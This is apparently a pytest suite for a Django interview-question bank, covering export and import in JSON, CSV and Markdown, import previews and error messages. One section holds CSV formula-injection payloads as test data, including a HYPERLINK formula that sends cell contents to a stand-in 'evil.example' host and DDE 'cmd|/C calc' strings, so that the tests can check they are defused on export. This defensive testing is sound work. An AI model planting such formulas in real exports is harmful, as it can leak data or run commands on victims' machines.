"""Export (JSON, CSV, Markdown) and import with preview, in the web app and the commands."""

import io
import json

import pytest
from django.core.management import call_command

from questionbank.models import Question, QuestionRevision
from questionbank.services import revision_publish
from questionbank.exporting import export_csv, export_json
from questionbank.importing import ImportRefused, apply_import, build_preview, parse_csv, parse_json

pytestmark = pytest.mark.django_db
DEFAULTS = {"area": "data", "kind": "concept", "level": "mid", "roles": ["ds"]}


def comparable(export_text):
    data = json.loads(export_text)
    data.pop("exported_at")
    return data


def empty_the_bank():
    Question.objects.update(status="draft", current_revision=None)
    Question.objects.all().delete()


def test_json_export_then_import_gives_an_identical_bank(hiring_manager):
    bias = Question.objects.get(slug="bias-variance")
    revisions = bias.revisions.count()
    revision_publish(question=bias, content={**bias.current_revision.text_fields(), "prompt": "Decompose the error."}, note="Shorter")
    Question.objects.filter(slug="yolo").update(status="retired")
    before = export_json()
    empty_the_bank()
    preview = build_preview(name="bank.json", text=before, defaults=DEFAULTS)
    counts = apply_import(preview, include={i["index"] for i in preview["items"]}, by=hiring_manager)
    assert counts["created"] == len(json.loads(before)["questions"])
    assert comparable(export_json())["questions"] == comparable(before)["questions"]
    assert Question.objects.get(slug="bias-variance").revisions.count() == revisions + 1
    assert Question.objects.filter(search_vector="regularization").exists()


def test_reimporting_the_same_json_changes_nothing():
    text = export_json()
    preview = build_preview(name="bank.json", text=text, defaults=DEFAULTS)
    assert {i["action"] for i in preview["items"]} == {"unchanged"}
    assert not any(i["include"] for i in preview["items"])


def test_csv_export_imports_back_as_updates_of_changed_rows():
    text = export_csv()
    assert text.splitlines()[0].startswith("slug,area,kind,level,roles,status,title,prompt")
    edited = text.replace("L1 and L2 regularization (lasso and ridge)", "L1 and L2 regularization: lasso and ridge")
    preview = build_preview(name="bank.csv", text=edited, defaults=DEFAULTS)
    changed = [i for i in preview["items"] if i["action"] == "update"]
    assert [i["slug"] for i in changed] == ["regularization"]
    revisions_before = QuestionRevision.objects.count()
    apply_import(preview, include={i["index"] for i in changed})
    assert QuestionRevision.objects.count() == revisions_before + 1
    assert Question.objects.get(slug="regularization").title == "L1 and L2 regularization: lasso and ridge"


def test_a_malformed_json_file_names_the_line():
    with pytest.raises(ImportRefused, match=r"Line 3: not valid JSON"):
        parse_json('{\n"format": "panelist-questions",\n"version": 1,,\n}')


def test_json_from_another_tool_is_refused():
    with pytest.raises(ImportRefused, match="not a Panelist export"):
        parse_json('{"questions": []}')


def test_a_csv_row_with_an_unknown_area_names_its_line():
    text = "title,prompt,area\nA,Why?,fundamentals\nB,How?,astrology\n"
    with pytest.raises(ImportRefused, match=r"Line 3: area 'astrology' is not one of"):
        parse_csv(text)


def test_a_csv_without_the_needed_columns_is_refused():
    with pytest.raises(ImportRefused, match="lacks the column\\(s\\) prompt"):
        parse_csv("title,answer\nA,B\n")


def test_near_duplicates_are_flagged_and_left_out_by_default():
    text = "title,prompt\nBias-variance decomposition of the prediction error,Explain it.\nA brand new topic about quantisation,Explain it.\n"
    preview = build_preview(name="x.csv", text=text, defaults=DEFAULTS)
    dup, new = preview["items"]
    assert dup["include"] is False and "near-duplicate of “Bias-variance decomposition of prediction error”" in dup["warnings"][0]
    assert new["include"] is True and new["action"] == "create"


def test_the_web_import_previews_without_writing_then_confirms(hm_client):
    text = "title,prompt\nQuantisation-aware training,When would you use quantisation-aware training?\n"
    count = Question.objects.count()
    upload = io.BytesIO(text.encode())
    upload.name = "new.csv"
    response = hm_client.post("/questions/import/", {"file": upload, **DEFAULTS})
    assert response.status_code == 200
    assert "Quantisation-aware training" in response.content.decode()
    assert Question.objects.count() == count  # nothing written by the preview
    token = hm_client.session["question_import_preview"]["token"]
    response = hm_client.post("/questions/import/confirm/", {"token": token, "include": ["0"]})
    assert response.status_code == 302
    assert Question.objects.count() == count + 1
    assert Question.objects.get(slug="quantisation-aware-training").status == "draft"


def test_the_confirm_step_refuses_a_stale_token(hm_client):
    response = hm_client.post("/questions/import/confirm/", {"token": "nope", "include": ["0"]}, follow=True)
    assert "expired" in response.content.decode()


def test_the_web_import_refuses_an_oversized_file(hm_client, settings):
    settings.QUESTION_IMPORT_MAX_BYTES = 1024
    upload = io.BytesIO(b"x" * 4096)
    upload.name = "big.md"
    response = hm_client.post("/questions/import/", {"file": upload, **DEFAULTS})
    assert response.status_code == 400
    assert "imports are limited to 1 KB" in response.content.decode()


def test_the_web_import_shows_a_malformed_file_error_with_its_line(hm_client):
    upload = io.BytesIO(b'{\n"format": "panelist-questions",\n  oops\n}')
    upload.name = "bad.json"
    response = hm_client.post("/questions/import/", {"file": upload, **DEFAULTS})
    assert response.status_code == 400
    assert "Could not read bad.json: Line 3: not valid JSON" in response.content.decode()


def test_the_web_import_asks_for_a_file_when_none_is_given(hm_client):
    response = hm_client.post("/questions/import/", DEFAULTS)
    assert "Choose a file to upload or paste the text" in response.content.decode()


def test_the_web_import_refuses_a_binary_file(hm_client):
    upload = io.BytesIO(b"\xff\xfe\x00\x01binary")
    upload.name = "x.md"
    response = hm_client.post("/questions/import/", {"file": upload, **DEFAULTS})
    assert "not UTF-8 text" in response.content.decode()


@pytest.mark.parametrize("fmt,content_type,marker", [
    ("json", "application/json", '"format": "panelist-questions"'),
    ("csv", "text/csv", "slug,area,kind"),
    ("md", "text/markdown", "# Panelist question bank"),
])
def test_the_web_export_downloads_each_format(hm_client, fmt, content_type, marker):
    response = hm_client.get("/questions/export/", {"format": fmt})
    assert response.status_code == 200
    assert response["Content-Type"].startswith(content_type)
    assert "attachment;" in response["Content-Disposition"]
    assert marker in response.content.decode()


def test_an_unknown_export_format_gets_a_clear_400(hm_client):
    response = hm_client.get("/questions/export/", {"format": "xlsx"})
    assert response.status_code == 400
    assert "“xlsx” is not an export format" in response.content.decode()


def test_the_export_command_writes_a_file_the_import_command_reads(tmp_path, capsys):
    path = tmp_path / "bank.json"
    call_command("export_questions", "--format", "json", "--output", str(path))
    assert json.loads(path.read_text())["format"] == "panelist-questions"
    call_command("import_questions", str(path), "--dry-run")
    out = capsys.readouterr().out
    assert "- [unchanged] Bias-variance decomposition of prediction error" in out


def test_the_import_command_dry_run_json_prints_the_found_questions(tmp_path, capsys):
    path = tmp_path / "q.csv"
    path.write_text("title,prompt,model_answer,key_points\nQuantisation,When to quantise?,Int8 after training.,Smaller\n")
    count = Question.objects.count()
    call_command("import_questions", str(path), "--dry-run", "--json")
    data = json.loads(capsys.readouterr().out)
    assert data["questions"][0] == {
        "title": "Quantisation", "prompt": "When to quantise?", "why_we_ask": "", "model_answer": "Int8 after training.",
        "evaluation": "", "key_points": ["Smaller"], "follow_ups": [],
    }
    assert Question.objects.count() == count


def test_the_import_command_names_the_line_of_a_malformed_file(tmp_path):
    from django.core.management.base import CommandError

    path = tmp_path / "q.csv"
    path.write_text("title,prompt,minutes\nA,B,ten\n")
    with pytest.raises(CommandError, match="Line 2: minutes: minutes 'ten' is not a whole number"):
        call_command("import_questions", str(path), "--dry-run")


def test_a_markdown_document_of_ten_questions_imports_through_the_preview(hm_client):
    from pathlib import Path

    path = Path(__file__).resolve().parents[2] / "docs" / "examples" / "ten-questions.md"
    upload = io.BytesIO(path.read_bytes())
    upload.name = "ten-questions.md"
    count = Question.objects.count()
    response = hm_client.post("/questions/import/", {"file": upload, **DEFAULTS})
    preview = hm_client.session["question_import_preview"]
    assert response.status_code == 200 and preview["format"] == "document"
    assert len(preview["items"]) == 10
    first = preview["items"][0]
    assert first["content"]["title"] == "What is the bias-variance trade-off, and how does it show up in practice?"
    assert first["content"]["why_we_ask"].startswith("It tells us whether the candidate")
    assert first["content"]["criteria"] == [
        "Names both sources of error, connects them to learning curves and gives a concrete remedy for each."
    ]
    assert Question.objects.count() == count
    include = [str(i["index"]) for i in preview["items"] if i["include"]]
    # A document's preview is a form of its questions: the ticked ones are posted as ticked.
    hm_client.post("/questions/import/confirm/", {"token": preview["token"], "version": preview["version"], "action": "confirm",
                                                  **{f"q{n}-include": "on" for n in include},
                                                  **{f"q{i['index']}-shown": "1" for i in preview["items"]}})
    assert Question.objects.count() == count + len(include)
    imported = Question.objects.get(slug=first["slug"])
    assert imported.status == "draft"
    assert imported.current_revision.anchors.count() == 0


def test_criteria_are_drafted_from_evaluation_notes_without_the_weak_answer_lines():
    from questionbank.importpreview import _criteria_from_evaluation

    assert _criteria_from_evaluation("- Names two metrics\n- Weak answers ignore costs\n* Says when accuracy misleads") == [
        "Names two metrics", "Says when accuracy misleads",
    ]


def test_a_sentence_before_the_evaluation_bullets_is_a_criterion_too_and_an_introduction_is_not():
    """The walkthrough's Word guide: "What to look for: <a sentence>" then two bullets lost the
    sentence."""
    from questionbank.importpreview import _criteria_from_evaluation

    assert _criteria_from_evaluation(
        "mentions the batch statistics at training time versus running averages at inference.\n\n"
        "- Smoother loss surface\n- Train vs inference behaviour") == [
        "Mentions the batch statistics at training time versus running averages at inference.",
        "Smoother loss surface", "Train vs inference behaviour"]
    assert _criteria_from_evaluation("Strong answers include:\n- Names two metrics\n- Says when accuracy misleads") == [
        "Names two metrics", "Says when accuracy misleads"]


def test_an_empty_document_is_refused_with_a_message(hm_client):
    response = hm_client.post("/questions/import/", {"text": "   \n  ", **DEFAULTS})
    assert response.status_code == 400
    assert "Choose a file to upload or paste the text" in response.content.decode()
    upload = io.BytesIO(b"Just some notes without any questions in them.\n")
    upload.name = "notes.md"
    response = hm_client.post("/questions/import/", {"file": upload, **DEFAULTS})
    assert "No questions found" in response.content.decode()


# --- Formulas in exported CSV cells ---------------------------------------------------------

FORMULA_TEXTS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "prompt": "+cmd|' /C calc'!A0 and what then?",
    "why_we_ask": "@SUM(1+1)*cmd|' /C calc'!A0",
    "model_answer": "-2+3 and so on",
    "key_points": ["-1 is a valid label here", "Fine"],
    "criteria": ["＝HYPERLINK(\"http://evil.example\")", "'Quoted' on purpose, before any export"],
}


def formula_question():
    from questionbank.services import question_create
    from tests.conftest import revision_content

    return question_create(slug="formula-probe", area="data", kind="concept", level="mid", roles=["ds"],
                           status="published", content=revision_content(**FORMULA_TEXTS))


def csv_row(text, slug):
    import csv

    return next(row for row in csv.DictReader(io.StringIO(text)) if row["slug"] == slug)


def test_the_bank_csv_export_writes_no_cell_a_spreadsheet_would_run():
    formula_question()
    row = csv_row(export_csv(), "formula-probe")
    assert row["title"] == "'" + FORMULA_TEXTS["title"]
    assert row["prompt"].startswith("'+cmd") and row["why_we_ask"].startswith("'@SUM")
    assert row["model_answer"] == "'-2+3 and so on"
    assert row["key_points"] == "'-1 is a valid label here\nFine"
    assert row["criteria"].startswith("'＝HYPERLINK")
    assert row["minutes"] == "8"  # numbers stay numbers
    import csv

    for cells in csv.reader(io.StringIO(export_csv())):
        for cell in cells:
            assert not cell.startswith(("=", "+", "@", "\t", "\r", "＝")), cell


def test_a_bank_csv_export_imports_back_into_an_empty_bank_exactly():
    question = formula_question()
    before = question.current_revision.text_fields()
    text = export_csv()
    Question.objects.filter(slug="formula-probe").update(status="draft", current_revision=None)
    Question.objects.filter(slug="formula-probe").delete()
    preview = build_preview(name="bank.csv", text=text, defaults=DEFAULTS)
    item = next(i for i in preview["items"] if i["slug"] == "formula-probe")
    assert item["action"] == "create" and item["warnings"] == []
    apply_import(preview, include={item["index"]})
    after = Question.objects.get(slug="formula-probe").current_revision.text_fields()
    assert after == before
    assert after["criteria"][1] == "'Quoted' on purpose, before any export"


def test_reimporting_a_bank_csv_export_finds_every_row_unchanged():
    formula_question()
    preview = build_preview(name="bank.csv", text=export_csv(), defaults=DEFAULTS)
    assert {i["action"] for i in preview["items"]} == {"unchanged"}


def test_the_comparison_csv_defuses_formulas_in_its_header_too(as_user, hiring_manager, recruiter, interviewer):
    from tests.factories import make_candidate, make_interview, make_plan, make_position, make_scorecard

    position = make_position(hiring_manager=hiring_manager, recruiter=recruiter)
    evil = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "-cmd"]
    plan = make_plan(position=position, competencies=evil)
    interview = make_interview(candidate=make_candidate(position=position, name="+Ada"), plan=plan, interviewers=[interviewer])
    make_scorecard(interview=interview, interviewer=interviewer, scores=[3, 2, 4])
    response = as_user(recruiter).get(f"/positions/{position.pk}/compare/?format=csv")
    import csv

    header, row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[:2]
    for label in evil:
        assert "'" + label in header
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in header + row)
    assert row[0] == "'+Ada"


# --- The import form and preview ------------------------------------------------------------


def test_a_file_and_pasted_text_together_are_refused_and_the_text_is_kept(hm_client):
    upload = io.BytesIO(b"title,prompt\nQuantisation,When?\n")
    upload.name = "q.csv"
    count = Question.objects.count()
    response = hm_client.post("/questions/import/", {"file": upload, "text": "1. What is overfitting?", **DEFAULTS})
    body = response.content.decode()
    assert response.status_code == 400
    assert "Choose one: a file or pasted text, not both." in body
    assert "1. What is overfitting?</textarea>" in body
    assert Question.objects.count() == count


def test_an_oversized_file_gets_only_the_size_message(hm_client, settings):
    settings.QUESTION_IMPORT_MAX_BYTES = 1024
    upload = io.BytesIO(b"x" * 4096)
    upload.name = "big.md"
    body = hm_client.post("/questions/import/", {"file": upload, **DEFAULTS}).content.decode()
    assert "The file is 4 KB; imports are limited to 1 KB." in body
    assert "Choose a file to upload" not in body


def test_the_preview_shows_key_points_criteria_and_anchors_in_full(hm_client):
    text = ("title,prompt,key_points,criteria,anchor_1,anchor_2,anchor_3,anchor_4\n"
            'Quantisation-aware training,When would you use it?,"Simulates int8 rounding during training\n'
            'Costs a second training run","Names the accuracy drop that post-training quantisation causes\n'
            'Says when fake-quantisation nodes are worth their cost",Nothing,Vague,Good,Excellent with numbers\n')
    body = hm_client.post("/questions/import/", {"text": "", "file": _upload("qat.csv", text), **DEFAULTS}).content.decode()
    for shown in ("<li>Simulates int8 rounding during training</li>", "<li>Costs a second training run</li>",
                  "<li>Names the accuracy drop that post-training quantisation causes</li>",
                  "<li>Says when fake-quantisation nodes are worth their cost</li>", "<li>Excellent with numbers</li>"):
        assert shown in body


def _upload(name, text):
    upload = io.BytesIO(text.encode())
    upload.name = name
    return upload


def test_pasted_plain_question_lines_each_with_an_answer_line_preview_as_three_questions(hm_client):
    text = ("What is overfitting?\nIt is when a model learns the noise in its training data.\n\n"
            "What is regularisation?\nAdding a penalty on model complexity.\n\n"
            "Why do we need a validation set?\nTo choose hyperparameters without touching the test set.\n")
    count = Question.objects.count()
    response = hm_client.post("/questions/import/", {"text": text, **DEFAULTS})
    body = response.content.decode()
    assert response.status_code == 200
    assert "Found 3 questions (document)." in body
    for title in ("What is overfitting?", "What is regularisation?", "Why do we need a validation set?"):
        assert f'value="{title}"' in body
    assert "It is when a model learns the noise in its training data." in body
    assert Question.objects.count() == count
